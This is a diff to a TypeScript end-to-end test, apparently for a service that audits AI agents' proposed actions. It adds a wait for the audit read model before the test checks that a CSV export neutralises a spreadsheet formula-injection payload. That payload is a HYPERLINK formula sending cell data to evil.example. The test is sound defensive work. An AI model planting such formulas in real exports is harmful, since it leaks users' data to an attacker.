@@ -3,6 +3,7 @@ import assert from 'node:assert/strict';
 import { connect } from 'node:net';
 import { client, KEYS, type Client } from '../support/api-client.ts';
 import { removeDir, startCountersign, type RunningCountersign, SHAPE } from '../support/countersign-process.ts';
+import { until } from '../support/until.ts';
 import { E2E_ENV } from '../support/e2e-env.ts';
 import { assertProblem } from '../support/problems.ts';
 
@@ -154,6 +155,9 @@ describe(`hostile input never stops a decision (${SHAPE})`, () => {
   it('neutralises CSV cells a spreadsheet would run as formulas', async () => {
     const formula = '=HYPERLINK("http://evil.example/?leak="&A1,"click")';
     const { body } = await agent.propose({ action: 'data.read', resource: 'prod/orders', justification: formula });
+    // The audit trail is a read model: wait until the projector has written the proposal.
+    const audited = async () => (await carol.get('/v1/audit?type=ActionProposed&requester=demo-agent&limit=1000')).body.items.some((e: { actionId: string }) => e.actionId === body.id);
+    await until(audited, 'the proposal in the audit trail');
     const csv = (await carol.get('/v1/audit?type=ActionProposed&requester=demo-agent&limit=1000', { accept: 'text/csv' })).text;
     const line = csv.split('\n').find((l) => l.includes(body.id));
     assert.ok(line?.includes(`"'=HYPERLINK(""http://evil.example/?leak=""&A1,""click"")"`), line);
